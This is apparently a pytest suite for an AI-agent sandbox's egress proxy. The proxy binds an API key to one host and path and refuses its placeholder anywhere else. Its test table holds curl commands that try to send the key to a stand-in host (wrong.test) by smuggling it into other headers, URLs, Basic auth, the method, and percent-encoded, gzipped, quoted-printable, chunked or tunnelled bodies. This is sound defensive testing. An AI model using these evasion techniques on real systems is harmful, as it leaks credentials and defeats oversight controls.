"""Keys bound to their destination on a real engine (issue 42 item 3): the agent holds only a
placeholder in its usual variable; the proxy swaps it for the real key in requests it intercepts to
the key's host and paths, and refuses (403, logged) the placeholder anywhere else: another
intercepted host, a plain-HTTP host, the key's host outside its paths or over plain HTTP, the URL,
another header. The upstream is our own TLS container answering as api.test and wrong.test
(certificates from a throwaway CA made in the test), recording every header it gets."""

from __future__ import annotations

import json
import os
import subprocess

import pytest

from conftest import script_upstream
from test_egress_http_engine import UPSTREAM
from test_secrets_engine import SANDBOX, certs  # noqa: F401 - a fixture

pytestmark = pytest.mark.engine

POLICY = """version: 1
name: keybind-test
description: a key bound to its destination, against our own TLS upstream
image: sandbox/agent:bookworm-full
workspace: {access: read-write}
tmpfs: [{target: /tmp, size: 16m}]
limits: {timeout: 5m}
network:
  mode: proxy
  allow:
    - {host: api.test, private: true, http: {methods: [GET, POST], ca_file: good.pem}}
    - {host: 'wrong.test:8443', private: true, http: {methods: [GET, POST], ca_file: good.pem}}
    - {host: 'wrong.test:80', private: true}
secrets:
  - name: model
    env: SANDBOX_TEST_BOUND_KEY
    header: "Authorization: Bearer {value}"
    bind: {host: api.test, paths: [/v1/], variable: ANTHROPIC_API_KEY}
"""
# One curl per line of the calls file: "<label> <status> <first line of the body>"; then what the
# agent's environment holds.
CALLS = r"""
printf '{"key": "%s"}' "$ANTHROPIC_API_KEY" > /tmp/keybody
PCT=$(printf %s "$ANTHROPIC_API_KEY" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
head -c 300000 /dev/zero | tr '\0' a > /tmp/plainbody
gzip -c /tmp/keybody > /tmp/keybody.gz
gzip -c /tmp/keybody.gz > /tmp/keybody.gz.gz
printf 'an ordinary body' | gzip -c > /tmp/plain.gz
# quoted-printable, every character escaped, a soft line break every 75 columns, in a multipart part
python3 - > /tmp/keybody.qp <<'PY'
import os
qp = "".join("=%02X" % ord(c) for c in "key: " + os.environ["ANTHROPIC_API_KEY"])
print("--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + "=\r\n".join(qp[i:i + 75] for i in range(0, len(qp), 75))
      + "\r\n--b--\r", end="\n")
PY
while read -r label args; do
  status=$(eval curl -s --max-time 20 -o /tmp/body -w '%{http_code}' $args)
  echo "$label $status $(head -n 1 /tmp/body | tr -d '\r')"
done < /workspace/calls
echo "placeholder $ANTHROPIC_API_KEY"
env > /workspace/envdump
"""
AUTH = "-H \"Authorization: Bearer $ANTHROPIC_API_KEY\""
CALLS_FILE = {
    "good": f"{AUTH} https://api.test/v1/good",
    "goodpost": f"-X POST {AUTH} https://api.test/v1/messages/goodpost",
    "clean": "https://wrong.test:8443/v1/clean",   # the other host works, without the placeholder
    "otherhost": f"{AUTH} https://wrong.test:8443/v1/otherhost",
    "plainhost": f"{AUTH} http://wrong.test/v1/plainhost",
    "plainsame": f"{AUTH} http://api.test/v1/plainsame",
    "otherpath": f"{AUTH} https://api.test/v2/otherpath",
    "dotpath": f"--path-as-is {AUTH} 'https://api.test/v1/%2e%2e/v2/dotpath'",
    "inurl": f"{AUTH} \"https://api.test/v1/inurl?key=$ANTHROPIC_API_KEY\"",
    "otherheader": "-H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.test/v1/otherheader",
    "twice": f"{AUTH} -H \"Cookie: k=$ANTHROPIC_API_KEY\" https://api.test/v1/twice",
    "noprefix": "-H \"Authorization: $ANTHROPIC_API_KEY\" https://api.test/v1/noprefix",
    # seen by the key ICAP service alone: every header, the whole body (plain, chunked), any encoding
    "goodchunked": f"-X POST {AUTH} -H 'Transfer-Encoding: chunked' --data-binary @/tmp/plainbody "
                   "https://api.test/v1/goodchunked",
    "unlisted": "-H \"X-Custom-Thing: $ANTHROPIC_API_KEY\" https://wrong.test:8443/v1/unlisted",
    "unlistedown": f"{AUTH} -H \"X-Custom-Thing: $ANTHROPIC_API_KEY\" https://api.test/v1/unlistedown",
    "bodypost": "--data-binary @/tmp/keybody https://wrong.test:8443/v1/bodypost",
    "bodychunked": "-H 'Transfer-Encoding: chunked' --data-binary @/tmp/keybody https://wrong.test:8443/v1/bodychunked",
    "bodyown": f"{AUTH} --data-binary @/tmp/keybody https://api.test/v1/bodyown",
    "bodypercent": "--data \"k=$PCT\" https://wrong.test:8443/v1/bodypercent",
    "bodyplain": "--data-binary @/tmp/keybody http://wrong.test/v1/bodyplain",
    "basic": "-u \"user:$ANTHROPIC_API_KEY\" https://wrong.test:8443/v1/basic",
    # compressed bodies are decoded (gzip, deflate); one the service cannot read is refused unchecked
    "bodygzip": "-H 'Content-Encoding: gzip' --data-binary @/tmp/keybody.gz https://wrong.test:8443/v1/bodygzip",
    "bodygzipown": f"{AUTH} -H 'Content-Encoding: gzip' --data-binary @/tmp/keybody.gz https://api.test/v1/bodygzipown",
    "bodygzipgzip": "-H 'Content-Encoding: gzip, gzip' --data-binary @/tmp/keybody.gz.gz http://wrong.test/v1/bodygzipgzip",
    "bodyqp": "-H 'Content-Type: multipart/form-data; boundary=b' --data-binary @/tmp/keybody.qp "
              "https://wrong.test:8443/v1/bodyqp",
    "bodyqpplain": "-H 'Content-Type: multipart/form-data; boundary=b' --data-binary @/tmp/keybody.qp http://wrong.test/v1/bodyqpplain",
    "goodgzip": f"-X POST {AUTH} -H 'Content-Encoding: gzip' --data-binary @/tmp/plain.gz https://api.test/v1/goodgzip",
    "brotli": f"{AUTH} -H 'Content-Encoding: br' --data-binary @/tmp/plainbody https://api.test/v1/brotli",
    # ways around the service that are not: HTTP/2 (the proxy agrees on no ALPN: HTTP/1.1, read in
    # clear), and plain HTTP inside a CONNECT to an intercepted port (not tunnelled as it is: refused)
    "bodyh2": "--http2 --data-binary @/tmp/keybody https://wrong.test:8443/v1/bodyh2",
    "inconnect": "--proxytunnel --data-binary @/tmp/keybody http://wrong.test:8443/v1/inconnect",
    # the placeholder as the method, to a host no rule lists methods for: Squid refuses a method of more
    # than 31 characters itself (400; the key ICAP service would refuse it too)
    "method": "-X \"$ANTHROPIC_API_KEY\" http://wrong.test/v1/method",
}
REFUSED = ("otherhost", "plainhost", "plainsame", "otherpath", "dotpath", "inurl", "otherheader", "twice", "noprefix",
           "unlisted", "unlistedown", "bodypost", "bodychunked", "bodyown", "bodypercent", "bodyplain", "basic",
           "bodygzip", "bodygzipown", "bodygzipgzip", "bodyqp", "bodyqpplain", "bodyh2")


@pytest.fixture(scope="module")
def upstream(engine, certs):  # noqa: F811
    env = {"API_CERT": certs["api.test.crt"], "API_KEY": certs["api.test.key"],
           "WRONG_CERT": certs["wrong.test.crt"], "WRONG_KEY": certs["wrong.test.key"]}
    with script_upstream(engine, "keybind", ("api.test", "wrong.test"), UPSTREAM, env) as (network, log, _):
        yield network, log


def test_the_key_goes_only_to_its_host_and_paths_and_the_placeholder_nowhere_else(upstream, workspace, tmp_path,
                                                                                   certs):  # noqa: F811
    network, upstream_log = upstream
    (tmp_path / "good.pem").write_text(certs["good.pem"])
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    (workspace / "calls").write_text("".join(f"{k} {v}\n" for k, v in CALLS_FILE.items()))
    real = "real-bound-key-" + os.urandom(12).hex()
    report = tmp_path / "report.json"
    done = subprocess.run(SANDBOX + ["run", "-p", str(policy), "-w", str(workspace), "--egress-network", network,
                                     "--report", str(report), "--", "bash", "-c", CALLS],
                          capture_output=True, text=True, timeout=300, env={**os.environ, "SANDBOX_TEST_BOUND_KEY": real})
    assert done.returncode == 0, done.stderr + done.stdout
    seen = {line.split(" ", 1)[0]: line.split(" ", 1)[1] for line in done.stdout.splitlines() if " " in line}
    log = upstream_log()
    placeholder = seen["placeholder"]
    assert placeholder.startswith("sandbox-placeholder-") and len(placeholder) > 40, seen
    inside = (workspace / "envdump").read_text()   # the agent's environment: the placeholder, never the key
    assert f"ANTHROPIC_API_KEY={placeholder}\n" in inside and real not in inside and "SANDBOX_SECRET" not in inside
    for label in ("good", "goodpost", "clean", "goodchunked", "goodgzip"):
        assert seen[label].startswith("200"), (label, seen)
        assert label in log, (label, log)
    # the upstream saw the real key, in the bound requests alone, and never the placeholder
    assert log.count(f"REQ Authorization: Bearer {real}") == 4, log
    assert placeholder not in log, log
    for label in REFUSED:
        status, _, body = seen[label].partition(" ")
        assert status == "403" and body.startswith("sandbox: refused by the egress policy: placeholder of "
                                                   "ANTHROPIC_API_KEY"), (label, seen[label])
        assert label not in log, f"{label} reached the upstream:\n{log}"
    assert "sent to https://wrong.test:8443" in seen["otherhost"] and "sent to http://api.test:80" in seen["plainsame"]
    assert "in the request body" in seen["bodygzipown"] and "sent to http://wrong.test:80" in seen["bodygzipgzip"]
    # a body the service cannot read is refused with the key's header right, without a placeholder in it
    assert seen["brotli"] == ("403 sandbox: refused by the egress policy: request body in content-encoding br: not readable "
                              "here (gzip and deflate are), so not checked for placeholders"), seen["brotli"]
    assert "brotli" not in log
    assert seen["inconnect"].startswith("403 sandbox: refused by the egress policy: "), seen["inconnect"]
    assert "inconnect" not in log
    assert seen["method"].split()[0] in ("400", "403") and "/v1/method" not in log, seen["method"]
    assert "sent to path /v2/dotpath" in seen["dotpath"], seen["dotpath"]
    reasons = [r["reason"] for r in json.loads(report.read_text())["egress"]["requests"]
               if "placeholder of ANTHROPIC_API_KEY" in r["reason"]]
    assert len(reasons) == len(REFUSED) and all(r.startswith("refused: ") for r in reasons), reasons
    assert any(r["reason"].startswith("refused: request body in content-encoding br")
               for r in json.loads(report.read_text())["egress"]["requests"])


# ---- the probe proves it: the placeholder sent to another allowed destination is refused by the
# proxy (egress.key_refused), and env.secrets lets in exactly the plan's placeholder, nothing else

def _plan(engine, workspace, tmp_path, certs, network):  # noqa: F811
    from dataclasses import replace

    from conftest import launch_facts
    from launcher.engine import images
    from launcher.host import statefiles
    from launcher.plan import trustfiles
    from launcher.plan.compiler import compile_policy
    from launcher.policy.policy import parse_policy

    (tmp_path / "good.pem").write_text(certs["good.pem"])
    policy = parse_policy(POLICY.replace("image: sandbox/agent:bookworm-full\n", "").encode(), str(tmp_path / "policy.yaml"))
    facts = launch_facts(engine, policy, workspace, proxy_image=images.proxy_image().tag, launched=True)
    files = trustfiles.store_files("", launch=facts.nonce)
    statefiles.write(files)
    facts = replace(facts, bump_store=(files[0].path, files[1].path))
    return compile_policy(policy, facts, egress_network=network,
                          command=("/.sandbox/probe/busybox", "touch", "/workspace/AGENT-RAN"))


def _without_lines(plan, *lines):
    from dataclasses import replace

    config = plan.proxy.config
    for line in lines:
        assert line in config
        config = config.replace(line, "")
    return replace(plan, proxy=replace(plan.proxy, config=config))


# both lines: with only the deny line left, Squid applies the service to what it does not match
ICAP_LINE = "adaptation_access sandbox_keys_icap deny keys_connect\nadaptation_access sandbox_keys_icap allow all\n"


def _without_key_check(plan):
    # two protections refuse a placeholder in the key's header sent elsewhere: the key helper's deny
    # line and the key ICAP service; either alone holds (egress.key_hidden proves the service's)
    return _without_lines(plan, "http_access deny !keys_connect !keys_ok\n", ICAP_LINE)


def _without_key_icap(plan):
    # no request goes to the key ICAP service: a placeholder in another header goes on unseen
    return _without_lines(plan, ICAP_LINE)


def _another_placeholder(plan):
    from dataclasses import replace

    env = tuple((k, "sandbox-placeholder-" + "0" * 32 if k == "ANTHROPIC_API_KEY" else v) for k, v in plan.container.env)
    return replace(plan, container=replace(plan.container, env=env))


KEY_TAMPERS = {"egress.key_refused": _without_key_check, "egress.key_hidden": _without_key_icap,
               "env.secrets": _another_placeholder}


@pytest.mark.parametrize("check", [None, *KEY_TAMPERS])
def test_a_removed_key_protection_fails_its_check_and_the_agent_never_runs(engine, upstream, workspace, tmp_path, certs,
                                                                          check, monkeypatch):  # noqa: F811
    from fakes import Recorder
    from launcher.errors import ProbeFailed
    from launcher.launch import launch

    monkeypatch.setattr(launch, "compare_inspect", lambda spec, attrs, image_env, podman=False: [])
    monkeypatch.setenv("SANDBOX_TEST_BOUND_KEY", "real-bound-key-" + os.urandom(8).hex())
    plan = _plan(engine, workspace, tmp_path, certs, upstream[0])
    assert plan.probe.keyrefuse == "Authorization@wrong.test:8443/sandbox-probe-key", plan.probe.keyrefuse
    assert plan.probe.keyhidden == "GET@api.test:443/v1/sandbox-probe-key", plan.probe.keyhidden
    if check is None:   # the control: untampered, every check passes and the agent runs
        outcome = launch.run(engine, plan, Recorder())
        assert outcome.probe.ok and (workspace / "AGENT-RAN").exists()
        assert {"egress.key_refused", "egress.key_hidden", "env.secrets"} <= {c.id for c in outcome.probe.checks}
        assert "sandbox-probe-key" not in upstream[1]()   # refused by the proxy itself
        return
    with pytest.raises(ProbeFailed) as info:
        launch.run(engine, KEY_TAMPERS[check](plan), Recorder())
    assert info.value.report is not None, str(info.value)
    failed = {c.id for c in info.value.report.failed}
    assert check in failed, f"{check} passed although its protection was removed; failed: {failed}"
    assert not (workspace / "AGENT-RAN").exists()
    assert engine.list(f"dev.sandbox.workspace={workspace}") == []


def test_with_the_key_icap_service_gone_requests_are_refused_not_sent_unchecked(engine, upstream, workspace, tmp_path,
                                                                              certs):  # noqa: F811
    """bypass=0: the ICAP service that reads every header and body is killed mid-run; the next
    requests (with the placeholder in a body, and with none at all) are refused, never forwarded."""
    from conftest import docker_sdk

    network, upstream_log = upstream
    (tmp_path / "good.pem").write_text(certs["good.pem"])
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    curl = "curl -s --max-time 20 -o /dev/null -w '%{http_code}'"
    script = (f'echo "first=$({curl} https://wrong.test:8443/v1/icapfirst)"; '
              'for i in $(seq 300); do [ -e /workspace/go ] && break; sleep 0.1; done; '
              f'echo "second=$({curl} https://wrong.test:8443/v1/icapsecond)"; '
              f'echo "third=$({curl} --data "k=$ANTHROPIC_API_KEY" https://wrong.test:8443/v1/icapthird)"')
    report = tmp_path / "report.json"
    proc = subprocess.Popen(SANDBOX + ["run", "-p", str(policy), "-w", str(workspace), "--egress-network", network,
                                       "--report", str(report), "--", "bash", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env={**os.environ, "SANDBOX_TEST_BOUND_KEY": "real-bound-key-" + os.urandom(8).hex()})
    try:
        assert proc.stdout.readline().strip() == "first=200"
        proxy = [c for c in engine.list(f"dev.sandbox.workspace={workspace}") if c.labels["dev.sandbox.kind"] == "proxy"][0]
        api = docker_sdk().api
        run = api.exec_create(proxy.id, ["sh", "-c", "kill $(cat /run/squid/icap.pid)"], user="13:13")
        api.exec_start(run["Id"])
        assert api.exec_inspect(run["Id"])["ExitCode"] == 0
        (workspace / "go").write_text("")
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, err
    second = out.split("second=")[1].split()[0]
    third = out.split("third=")[1].split()[0]
    assert second not in ("200", "000") and third not in ("200", "000"), out
    log = upstream_log()
    assert "icapfirst" in log and "icapsecond" not in log and "icapthird" not in log, log
    requests = {r["path"]: r for r in json.loads(report.read_text())["egress"]["requests"]}
    for path in ("/v1/icapsecond", "/v1/icapthird"):   # logged as refused, with why
        assert requests[path]["decision"] == "refused", requests[path]
        assert requests[path]["reason"] == "refused: the key ICAP service did not answer", requests[path]
    assert requests["/v1/icapfirst"]["decision"] == "allowed"
